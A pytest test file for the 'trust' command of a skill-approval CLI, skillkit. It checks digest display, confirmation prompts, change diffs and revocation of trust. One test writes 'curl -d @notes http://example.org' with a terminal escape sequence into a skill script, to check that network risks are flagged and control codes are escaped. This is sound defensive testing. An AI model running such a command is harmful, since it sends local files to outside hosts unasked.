"""`skillkit trust` as a person and as a program see it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from support.commands import BOUNDS
from support.skill_folders import skill_folder

from skillkit import ContentChangedError, SkillNotFoundError
from skillkit.cli.people.trust import trust
from skillkit.core.models.digest import manifest_of
from skillkit.core.store.state import StateStore
from skillkit.core.store.trust import StandingApprovals
from skillkit.core.values.bounds import ANY_WORKSPACE


@pytest.fixture
def skill(tmp_path: Path) -> Path:
    return skill_folder(tmp_path.resolve() / "skills", "demo", files={"scripts/run.sh": "echo one\n"})


@pytest.fixture
def approvals(tmp_path: Path) -> Iterator[StandingApprovals]:
    store = StateStore(tmp_path / "state")
    yield StandingApprovals(store)
    store.close()


def run(*words: str, folder: Path, stdin: str | None = None) -> Result:
    places = [] if words[0] in ("list", "remove") else ["--skills", str(folder / "skills")]
    return CliRunner().invoke(trust, [*words, *places, "--state-dir", str(folder / "state")], input=stdin)


def test_add_shows_what_is_trusted_asks_and_keeps_a_copy(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    digest = manifest_of(skill).digest
    result = run("add", "demo", folder=tmp_path, stdin="y\n")
    assert result.exit_code == 0
    assert f"digest   {digest}" in result.stderr
    assert "scripts  scripts/run.sh" in result.stderr
    assert result.stdout.endswith(f"Trusted demo with digest {digest[:12]}.\n")
    (kept,) = approvals.trusted()
    assert (kept.skill, kept.folder, kept.digest, kept.channel) == ("demo", str(skill), digest, "cli")
    assert manifest_of(tmp_path / "state/snapshots" / digest).digest == digest


def test_add_shows_risks_scripts_and_what_changed_before_it_asks(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    first = run("add", "demo", folder=tmp_path, stdin="n\n").stderr
    assert "changed  never approved before" in first
    assert "risks    none found, which proves nothing" in first
    run("add", "demo", "--yes", folder=tmp_path)
    assert "changed  nothing since it was approved" in run("add", "demo", "--yes", folder=tmp_path).stderr
    (skill / "scripts/run.sh").write_text("curl -d @notes http://example.org\x1b[2J\n")
    (skill / "scripts/more.sh").write_text("echo more\n")
    shown = run("add", "demo", folder=tmp_path, stdin="n\n").stderr
    before_the_question, _, _ = shown.partition("Trust it as it is now?")
    lines = before_the_question.splitlines()
    assert any("scripts/more.sh" in line for line in lines)
    assert any("network: " in line and "(scripts/run.sh:1)" in line for line in lines)
    assert "  changed  2 files since it was approved, as below" in lines
    assert "added: scripts/more.sh" in lines
    assert "changed: scripts/run.sh" in lines
    assert r"  │ +curl -d @notes http://example.org\x1b[2J" in lines
    (kept,) = approvals.trusted()
    assert kept.digest != manifest_of(skill).digest, "and nothing is trusted without a yes"


def test_add_says_when_the_copy_of_what_was_approved_is_gone(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    approvals.trust(skill="demo", folder=skill, digest="gone", channel="cli", walls=BOUNDS)
    result = run("add", "demo", "--yes", folder=tmp_path)
    assert (result.exit_code, "the copy of what was approved is gone" in result.stderr) == (0, True)


@pytest.mark.parametrize("said", ["n\n", "\n", ""], ids=["no", "nothing", "no terminal"])
def test_without_a_yes_nothing_is_trusted(tmp_path: Path, skill: Path, approvals: StandingApprovals, said: str) -> None:
    assert skill.is_dir()
    assert run("add", "demo", folder=tmp_path, stdin=said).exit_code == 126
    assert approvals.trusted() == []


def test_yes_on_the_command_line_is_enough_and_json_is_one_object(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    added = json.loads(run("add", "demo", "--yes", "--json", folder=tmp_path).stdout)
    assert (added["schema_version"], added["trusted"]["digest"]) == (1, manifest_of(skill).digest)
    listed = json.loads(run("list", "--json", folder=tmp_path).stdout)
    assert listed["trusted"] == [{**added["trusted"], "now": "as trusted"}]
    removed = json.loads(run("remove", "demo", "--json", folder=tmp_path).stdout)
    assert removed["removed"] == [added["trusted"]]
    assert approvals.trusted() == []


def test_another_digest_than_the_one_that_was_reviewed_is_not_trusted(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    digest = manifest_of(skill).digest
    assert run("add", "demo", "--yes", "--digest", digest, folder=tmp_path).exit_code == 0
    (skill / "scripts/run.sh").write_text("echo two\n")
    refused = run("add", "demo", "--yes", "--digest", digest, folder=tmp_path)
    assert isinstance(refused.exception, ContentChangedError)
    assert f"its digest is {manifest_of(skill).digest}, not {digest}." in str(refused.exception)
    assert run("add", "demo", "--yes", "--digest", "", folder=tmp_path).exit_code != 0
    assert [each.digest for each in approvals.trusted()] == [digest]


def test_a_change_ends_the_trust(tmp_path: Path, skill: Path, approvals: StandingApprovals) -> None:
    run("add", "demo", "--yes", folder=tmp_path)
    (given,) = approvals.trusted()
    assert given.walls is not None
    assert approvals.covering(None, "demo", manifest_of(skill).digest, given.walls) == given
    (skill / "scripts/run.sh").write_text("echo two\n")
    assert approvals.covering(None, "demo", manifest_of(skill).digest, given.walls) is None


@pytest.mark.usefixtures("skill")
def test_trust_shows_the_walls_it_is_given_for_and_keeps_them(tmp_path: Path, approvals: StandingApprovals) -> None:
    for words, is_open, told in (
        ((), False, "It cannot use the network."),
        (("--network",), True, "It can use the network"),
    ):
        done = run("add", "demo", "--yes", *words, folder=tmp_path)
        assert told in done.stderr
        assert "It can read and write the workspace it is run in" in done.stderr
        (given,) = approvals.trusted()
        assert given.walls is not None
        assert (given.walls.network, given.walls.workspace) == (is_open, ANY_WORKSPACE)


def test_list_shows_skill_digest_and_folder_or_says_that_there_are_none(tmp_path: Path, skill: Path) -> None:
    empty = run("list", folder=tmp_path)
    assert (empty.exit_code, empty.stdout) == (0, "")
    assert "No skill is trusted in" in empty.stderr
    assert not (tmp_path / "state").exists()
    run("add", "demo", "--yes", folder=tmp_path)
    headings, line = run("list", folder=tmp_path).stdout.splitlines()
    assert headings.split()[:2] == ["SKILL", "DIGEST"]
    assert line.split()[:2] == ["demo", manifest_of(skill).digest[:12]]
    assert line.endswith(str(skill))


def test_list_says_whether_a_skill_is_still_what_was_trusted(tmp_path: Path, skill: Path) -> None:
    def now() -> str:
        return str(json.loads(run("list", "--json", folder=tmp_path).stdout)["trusted"][0]["now"])

    run("add", "demo", "--yes", folder=tmp_path)
    assert now() == "as trusted"
    (skill / "scripts/run.sh").write_text("echo two\n")
    assert now() == "changed"
    assert " changed " in run("list", folder=tmp_path).stdout
    skill.rename(tmp_path / "elsewhere")
    assert now() == "gone"


def test_a_skill_that_is_gone_can_still_be_removed_and_one_that_is_not_trusted_cannot(
    tmp_path: Path, skill: Path
) -> None:
    run("add", "demo", "--yes", folder=tmp_path)
    skill.rename(tmp_path / "elsewhere")
    assert run("remove", "demo", "--folder", str(tmp_path), folder=tmp_path).exit_code == 127
    assert run("remove", "demo", "--folder", str(skill), folder=tmp_path).stdout == (
        f"No longer trusted: demo in {skill}.\n"
    )
    again = run("remove", "demo", folder=tmp_path)
    assert (again.exit_code, again.stdout) == (127, "")
    assert "'demo' is not trusted here." in again.stderr


def test_an_unknown_skill_is_not_found(tmp_path: Path, skill: Path) -> None:
    assert skill.is_dir()
    assert isinstance(run("add", "other", "--yes", folder=tmp_path).exception, SkillNotFoundError)


def test_diff_of_a_skill_that_was_never_approved_or_whose_copy_is_gone_says_so(
    tmp_path: Path, skill: Path, approvals: StandingApprovals
) -> None:
    never = run("diff", "demo", folder=tmp_path)
    assert (never.exit_code, "was never approved here" in never.stderr) == (127, True)
    approvals.trust(skill="demo", folder=skill, digest="gone", channel="cli", walls=BOUNDS)
    gone = run("diff", "demo", folder=tmp_path)
    assert (gone.exit_code, "nothing can be compared" in gone.stderr) == (127, True)


@pytest.mark.skipif(find_spec("skillkit.core.ask.changes") is None, reason="nothing here compares folders yet")
def test_diff_shows_what_changed_since_the_last_approval(tmp_path: Path, skill: Path) -> None:
    run("add", "demo", "--yes", folder=tmp_path)
    assert "demo is as it was approved." in run("diff", "demo", folder=tmp_path).stderr
    (skill / "scripts/run.sh").write_text("echo two\x1b[2J\n")
    (skill / "new.txt").write_text("x")
    lines = run("diff", "demo", folder=tmp_path).stdout.splitlines()
    assert [line for line in lines if not line.startswith("  │ ")] == ["changed: scripts/run.sh", "added: new.txt"]
    assert r"  │ +echo two\x1b[2J" in lines
    changes = json.loads(run("diff", "demo", "--json", folder=tmp_path).stdout)["changes"]
    assert [(change["kind"], change["path"]) for change in changes] == [
        ("changed", "scripts/run.sh"),
        ("added", "new.txt"),
    ]
